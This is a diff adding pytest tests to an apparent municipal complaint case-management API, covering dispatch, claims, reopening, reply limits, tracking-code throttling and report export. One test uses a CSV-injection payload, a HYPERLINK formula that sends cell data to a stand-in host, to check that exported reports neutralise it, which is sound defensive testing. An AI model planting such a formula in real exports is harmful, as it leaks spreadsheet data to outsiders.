@@ -14,7 +14,7 @@ from zoneinfo import ZoneInfo
 import httpx
 import pytest
 from aiokafka import AIOKafkaProducer
-from sqlalchemy import update
+from sqlalchemy import text, update
 
 from case_api.cases.deadlines import CalendarPolicy
 from case_api.cases.models import Case
@@ -193,6 +193,62 @@ async def test_a_failed_delivery_shows_the_platforms_code_however_long(api: Api)
     assert (shown["status"], shown["platform_code"]) == ("failed", code)
 
 
+async def test_confirming_a_reopened_case_keeps_the_category_a_person_chose(api: Api) -> None:
+    """Reopened, a case keeps the department that answered it and the router's first proposal: confirming must
+    follow the category the operators chose, then or now, and the old department cannot claim it meanwhile."""
+    chosen_before, chosen_now = await api.seed(routed("m1", sender="a"), routed("m2", sender="b"))
+    housing = await api.as_user("h-reopen", "handler", "housing")
+    await api.act(chosen_before, "accept")
+    await api.act(chosen_before, "classify", {"category_id": "market-consumer"})
+    await api.act(chosen_before, "dispatch")
+    await api.act(chosen_now, "confirm")  # housing, as the router proposed
+    for case_id in (chosen_before, chosen_now):
+        await api.act(case_id, "reply", {"text": "已处理"})
+        await api.act(case_id, "close")
+        await api.act(case_id, "reopen", {"reason": "市民不满意"})
+    refused = await api.act(chosen_now, "claim", headers=housing)
+    assert refused.status_code == 409 and "accepted" in refused.json()["detail"]
+    await api.act(chosen_now, "classify", {"category_id": "market-consumer"})
+    for case_id in (chosen_before, chosen_now):
+        body = (await api.act(case_id, "confirm")).json()
+        assert (body["status"], body["category_id"], body["department_id"]) == (
+            "dispatched",
+            "market-consumer",
+            "market",
+        ), case_id
+
+
+async def test_a_case_whose_answer_failed_closes_only_with_how_the_citizen_was_answered(api: Api) -> None:
+    """Closing tells the citizen the case is done and asks for a rating: not when the answer never reached them."""
+    failed, delivered = await api.seed(routed("m1", sender="s1"), routed("m2", sender="s2"))
+    for case_id in (failed, delivered):
+        await api.act(case_id, "confirm")
+        await api.act(case_id, "reply", {"text": "您好，已安排维修。"})
+    engine = make_engine(api.database_url)
+    async with make_sessionmaker(engine)() as session, session.begin():
+        await session.execute(
+            update(Reply)
+            .where(Reply.case_id == UUID(failed), Reply.automatic.is_(False))
+            .values(status="failed", platform_code="45015", reason="outside the reply window")
+        )
+    await engine.dispose()
+    refused = await api.act(failed, "close")
+    assert refused.status_code == 409 and "outside the reply window" in refused.json()["detail"]
+    closed = await api.act(failed, "close", {"reason": "已电话答复市民"})
+    assert closed.status_code == 200 and closed.json()["status"] == "closed"
+    assert [r["created_by"] for r in closed.json()["replies"]] == ["admin"]  # no rating request
+    asked = (await api.act(delivered, "close")).json()["replies"]
+    assert [r["created_by"] for r in asked] == ["admin", "system"] and "评分" in asked[-1]["text"]
+
+
+async def test_a_reply_too_long_for_the_platform_is_refused_when_written(api: Api) -> None:
+    [case_id] = await api.seed(routed("m1", channel=Channel.WEIBO, account="city-weibo"))
+    await api.act(case_id, "confirm")
+    refused = await api.act(case_id, "reply", {"text": "很" * 301})
+    assert refused.status_code == 422 and "at most 300 characters" in refused.json()["detail"]
+    assert (await api.act(case_id, "reply", {"text": "很" * 300})).status_code == 200
+
+
 async def test_an_illegal_move_is_409_with_the_state_and_what_is_allowed(api: Api) -> None:
     [case_id] = await api.seed(routed("m1"))
     response = await api.act(case_id, "close")
@@ -347,6 +403,30 @@ async def test_only_supervisors_free_a_colleagues_claim(api: Api) -> None:
     assert (await api.act(case_id, "release", headers=supervisor)).json()["claimed_by"] is None
 
 
+async def test_a_claim_holds_against_every_colleague_and_ends_when_the_case_moves_on(api: Api) -> None:
+    """A claim says who works the case: a handler cannot take it over, nor anyone pass the case on behind the
+    holder's back; dispatching or transferring the case ends it, so the department starts at once."""
+    held, handed_on = await api.seed(routed("m1", sender="a"), routed("m2", sender="b"))
+    alice = await api.as_user("alice2", "operator")
+    first = await api.as_user("h-first", "handler", "housing")
+    second = await api.as_user("h-second", "handler", "housing")
+    await api.act(held, "confirm")  # housing
+    assert (await api.act(held, "claim", headers=first)).json()["claimed_by"] == "h-first"
+    for who, action, body in [
+        (second, "claim", {}),
+        (second, "reply", {"text": "已处理"}),
+        (second, "transfer", {"department_id": "market", "reason": "属于市场监管"}),
+        (alice, "transfer", {"department_id": "market", "reason": "属于市场监管"}),
+    ]:
+        refused = await api.act(held, action, body, headers=who)
+        assert refused.status_code == 409 and "h-first" in refused.json()["detail"], action
+    assert (await api.act(held, "escalate", {"reason": "媒体关注"}, headers=second)).status_code == 200
+    await api.act(handed_on, "claim", headers=alice)
+    dispatched = await api.act(handed_on, "confirm", headers=alice)
+    assert dispatched.json()["claimed_by"] is None
+    assert (await api.act(handed_on, "reply", {"text": "已处理"}, headers=first)).status_code == 200
+
+
 async def test_each_role_sees_its_own_queue(api: Api) -> None:
     a, b, c = await api.seed(routed("m1", sender="a"), routed("m2", sender="b"), routed("m3", sender="c"))
     await api.act(b, "confirm")  # housing
@@ -374,6 +454,18 @@ async def test_each_role_sees_its_own_queue(api: Api) -> None:
     assert (await api.client.post("/api/v1/users", headers=operator, json={})).status_code == 403
     assert (await api.client.get("/api/v1/cases")).status_code == 200
     assert (await api.client.get("/api/v1/cases", headers={"Authorization": "Bearer nonsense"})).status_code == 401
+
+
+async def test_a_citizen_writing_back_after_the_answer_puts_the_case_in_the_departments_queue(api: Api) -> None:
+    answered, written_back = await api.seed(routed("m1", sender="a"), routed("m2", sender="b"))
+    housing = await api.as_user("h-back", "handler", "housing")
+    for case_id in (answered, written_back):
+        await api.act(case_id, "confirm")
+        await api.act(case_id, "reply", {"text": "已处理"}, headers=housing)
+    assert (await api.client.get("/api/v1/queue", headers=housing)).json()["items"] == []
+    await api.seed(routed("m3", sender="b", text="还是没有解决", sent_at=utcnow()))
+    page = (await api.client.get("/api/v1/queue", headers=housing)).json()
+    assert [(c["id"], c["status"], c["message_count"]) for c in page["items"]] == [(written_back, "replied", 2)]
 
 
 async def test_the_queue_is_ordered_by_deadline_and_filters(api: Api) -> None:
@@ -463,6 +555,47 @@ async def test_public_tracking_and_statistics_show_no_personal_data(api: Api) ->
     assert (
         await api.client.get("/api/v1/stats/departments", params={"from": "2026-02-01", "to": "2026-01-01"})
     ).status_code == 422
+
+
+async def test_guessing_tracking_codes_is_throttled(api: Api) -> None:
+    """Numbers are sequential and a code has six digits: one address cannot try a million codes."""
+    [case_id] = await api.seed(routed("m1"))
+    number = (await api.client.get(f"/api/v1/cases/{case_id}")).json()["number"]
+    anonymous = httpx.AsyncClient(transport=api.client._transport, base_url="http://testserver")
+    async with anonymous:
+        right = api.tracking_url(number).rsplit("=", 1)[1]
+        wrong = [code for code in (f"{n:06d}" for n in range(26)) if code != right][:25]
+        guesses = [(await anonymous.get(f"/api/v1/track/{number}?code={code}")).status_code for code in wrong]
+        assert guesses[:20] == [404] * 20 and set(guesses[20:]) == {429}
+        refused = await anonymous.get(api.tracking_url(number))  # even the right code, until the wait is over
+        assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 0
+
+
+async def test_a_handler_sees_its_department_ranked_among_all(api: Api) -> None:
+    """Alone in its own view, every department came first."""
+    housing_case, market_case = await api.seed(routed("m1", sender="a"), routed("m2", sender="b"))
+    await api.act(housing_case, "confirm")
+    await api.act(market_case, "accept")
+    await api.act(market_case, "classify", {"category_id": "market-consumer"})
+    await api.act(market_case, "dispatch")
+    await api.act(housing_case, "reply", {"text": "已处理"})  # housing answers, market does not
+    ranked = (await api.client.get("/api/v1/stats/departments")).json()["departments"]
+    last = ranked[-1]
+    assert last["rank"] == len(ranked) > 1
+    handler = await api.as_user("h-ranked", "handler", last["department_id"])
+    [own] = (await api.client.get("/api/v1/stats/departments", headers=handler)).json()["departments"]
+    assert (own["department_id"], own["rank"]) == (last["department_id"], last["rank"])
+
+
+async def test_a_report_in_csv_never_hands_a_spreadsheet_a_formula(api: Api) -> None:
+    await api.seed(routed("m1"))
+    named = {"id": "housing", "name": '=HYPERLINK("http://x.example/?"&A1,"看这里")', "active": True}
+    assert (await api.client.put("/api/v1/departments/housing", json=named)).status_code == 200
+    await api.act((await api.client.get("/api/v1/cases")).json()["items"][0]["id"], "confirm")
+    report = (await api.client.get("/api/v1/reports/monthly", params={"format": "csv"})).text
+    cells = [cell for line in report.splitlines() for cell in line.split(",")]
+    assert not [cell for cell in cells if cell.lstrip('"').startswith(("=", "+", "@"))]
+    assert "'=HYPERLINK" in report
 
 
 async def test_reports_download_for_staff_only(api: Api) -> None:
@@ -705,8 +838,9 @@ async def test_a_co_handler_is_offered_only_what_it_can_do(api: Api) -> None:
     illegal = await api.act(case_id, "wait-on-citizen", {"text": "请补充"}, headers=env)  # replied: illegal now
     assert illegal.status_code == 409 and illegal.json()["allowed_actions"] == ["complete-part"]  # as offered
     assert (await api.client.get(f"/api/v1/cases/{case_id}")).json()["claimed_by"] is None
-    await api.act(case_id, "co-handlers/environment/complete", {"note": "达标"}, headers=env)
-    assert (await api.client.get(f"/api/v1/cases/{case_id}", headers=env)).json()["allowed_actions"] == []
+    completed = await api.act(case_id, "co-handlers/environment/complete", {"note": "达标"}, headers=env)
+    assert completed.json()["allowed_actions"] == []  # and with its part done, the case is no longer its to read:
+    assert (await api.client.get(f"/api/v1/cases/{case_id}", headers=env)).status_code == 404
     lead = (await api.client.get(f"/api/v1/cases/{case_id}", headers=housing)).json()["allowed_actions"]
     assert "remove-co-handler" not in lead and "close" in lead  # nothing open left to withdraw
 
@@ -780,6 +914,44 @@ async def test_no_active_category_routes_to_an_inactive_department(api: Api) -> 
     assert after["housing-property"]["department_id"] == after["utilities"]["department_id"] == "market"
 
 
+@pytest.mark.parametrize("database_url", ["postgres"], indirect=True)
+async def test_closing_a_department_and_routing_a_category_to_it_cannot_both_pass(api: Api) -> None:
+    """Two administrators at once: each check alone passes, so the second must wait for the first and see it."""
+    bureau = {"id": "quiet-bureau", "name": "新设机构", "active": True}
+    assert (await api.client.put("/api/v1/departments/quiet-bureau", json=bureau)).status_code == 200
+    category = {"id": "quiet-matters", "name": "新事项", "department_id": "quiet-bureau"}
+    engine = make_engine(api.database_url)
+    # Another administrator closing it: checked (no category goes there), row locked, not yet committed.
+    async with engine.connect() as other:
+        await other.execute(text("SELECT id FROM departments WHERE id = 'quiet-bureau' FOR UPDATE"))
+        await other.execute(text("UPDATE departments SET active = false WHERE id = 'quiet-bureau'"))
+        routing = asyncio.create_task(api.client.put("/api/v1/categories/quiet-matters", json=category))
+        await asyncio.sleep(0.5)
+        assert not routing.done()  # waits for the closing to finish instead of reading the old state
+        await other.commit()
+    refused = await routing
+    assert refused.status_code == 422 and "quiet-bureau" in refused.json()["detail"]
+    # The other way round: a category routed there meanwhile keeps the department open.
+    assert (await api.client.put("/api/v1/departments/quiet-bureau", json=bureau)).status_code == 200
+    async with engine.connect() as other:
+        await other.execute(text("SELECT id FROM departments WHERE id = 'quiet-bureau' FOR UPDATE"))
+        await other.execute(
+            text(
+                "INSERT INTO categories (id, name, department_id, active)"
+                " VALUES ('quiet-matters', '新事项', 'quiet-bureau', true)"
+            )
+        )
+        closing = asyncio.create_task(
+            api.client.put("/api/v1/departments/quiet-bureau", json=bureau | {"active": False})
+        )
+        await asyncio.sleep(0.5)
+        assert not closing.done()
+        await other.commit()
+    await engine.dispose()
+    blocked = await closing
+    assert blocked.status_code == 409 and "quiet-matters" in blocked.json()["detail"]
+
+
 async def test_a_department_returns_a_case_that_is_not_theirs_to_the_operators(api: Api) -> None:
     """DESIGN: handlers "ask for transfer". A department that does not know who owns a case sends it back with
     why (and who it thinks owns it); the operators see it again and dispatch it, the citizen's deadline unchanged."""
@@ -800,8 +972,9 @@ async def test_a_department_returns_a_case_that_is_not_theirs_to_the_operators(a
     body = returned.json()
     assert (body["status"], body["department_id"], body["claimed_by"]) == ("classified", None, None)
     assert [
-        (t["from_department_id"], t["to_department_id"], t["suggested_department_id"]) for t in body["transfers"]
-    ] == [("housing", None, "market")]
+        (t["kind"], t["from_department_id"], t["to_department_id"], t["suggested_department_id"])
+        for t in body["transfers"]
+    ] == [("return", "housing", None, "market")]
     # The operators find it under the department suggested, not the one that returned it, and among the returned.
     for owner, expected in [("market", [case_id]), ("housing", [])]:
         page = (await api.client.get("/api/v1/queue", params={"department_id": owner}, headers=operator)).json()
@@ -835,8 +1008,13 @@ async def test_statistics_count_a_departments_returns_apart_from_its_transfers(a
     housing_handler = await api.as_user("h-housing7", "handler", "housing")
     await api.act(passed, "transfer", {"department_id": "market", "reason": "属于市场监管"})
     assert (await api.act(returned, "return", {"reason": "不属于我局职责"}, headers=housing_handler)).is_success
-    # An operator pulling back their own wrong dispatch is no return of the department's.
-    assert (await api.act(pulled_back, "return", {"reason": "派错了"})).is_success
+    # An operator pulling back their own wrong dispatch is no return of the department's, but it is history.
+    pulled = await api.act(pulled_back, "return", {"reason": "派错了"})
+    assert [(t["kind"], t["from_department_id"], t["actor"]) for t in pulled.json()["transfers"]] == [
+        ("recall", "housing", "admin")
+    ]
+    page = (await api.client.get("/api/v1/queue", params={"returned": "true"})).json()
+    assert [c["id"] for c in page["items"]] == [returned]
     rows = (await api.client.get("/api/v1/stats/departments")).json()["departments"]
     by_id = {r["department_id"]: r for r in rows}
     housing, market = by_id["housing"], by_id["market"]
@@ -864,3 +1042,40 @@ async def test_a_returned_case_keeps_its_deadlines_and_stops_waiting(api: Api) -
     await api.act(waiting, "wait-on-citizen", {"text": "请提供具体地址"}, headers=housing)
     back = (await api.act(waiting, "return", {"reason": "不属于我局"}, headers=housing)).json()
     assert back["waiting_since"] is None and back["due_at"] is not None
+
+
+async def test_confirm_keeps_what_people_decided_after_the_router(api: Api) -> None:
+    """One action for the operator, but never undoing a person's decision: a category the operator corrected, or
+    the department a returning department suggested, is what confirming goes by, not the router's first guess."""
+    corrected, suggested, unsuggested = await api.seed(*(routed(f"m{i}", sender=f"s{i}") for i in (1, 2, 3)))
+    housing = await api.as_user("h-housing9", "handler", "housing")
+    await api.act(corrected, "accept")
+    assert (await api.act(corrected, "classify", {"category_id": "market-consumer"})).is_success
+    body = (await api.act(corrected, "confirm")).json()
+    assert (body["category_id"], body["department_id"]) == ("market-consumer", "market")
+    for case_id in (suggested, unsuggested):
+        await api.act(case_id, "confirm")  # to housing, as the router proposed
+    await api.act(suggested, "return", {"reason": "属于市场监管", "department_id": "market"}, headers=housing)
+    body = (await api.act(suggested, "confirm")).json()
+    assert (body["status"], body["category_id"], body["department_id"]) == ("dispatched", "housing-property", "market")
+    await api.act(unsuggested, "return", {"reason": "不属于我局"}, headers=housing)
+    refused = await api.act(unsuggested, "confirm")
+    assert refused.status_code == 409 and "without suggesting" in refused.json()["detail"]
+    assert (await api.client.get(f"/api/v1/cases/{unsuggested}")).json()["status"] == "classified"
+
+
+async def test_the_department_that_led_a_reopened_case_waits_for_the_operators_to_dispatch_it_again(api: Api) -> None:
+    """Reopened and reclassified for another department, the case is still visible to the one that led it, which
+    must not answer it behind the operators' back."""
+    [case_id] = await api.seed(routed("m1"))
+    housing = await api.as_user("h-reopened", "handler", "housing")
+    await api.act(case_id, "confirm")
+    await api.act(case_id, "reply", {"text": "已处理"}, headers=housing)
+    await api.act(case_id, "close")
+    await api.act(case_id, "reopen", {"reason": "市民不满意"})
+    await api.act(case_id, "classify", {"category_id": "market-consumer"})
+    seen = await api.client.get(f"/api/v1/cases/{case_id}", headers=housing)
+    assert seen.status_code == 200 and seen.json()["allowed_actions"] == ["escalate"]
+    refused = await api.act(case_id, "reply", {"text": "再次答复"}, headers=housing)
+    assert refused.status_code == 409 and refused.json()["allowed_actions"] == ["escalate"]
+    assert (await api.client.get(f"/api/v1/cases/{case_id}")).json()["status"] == "classified"
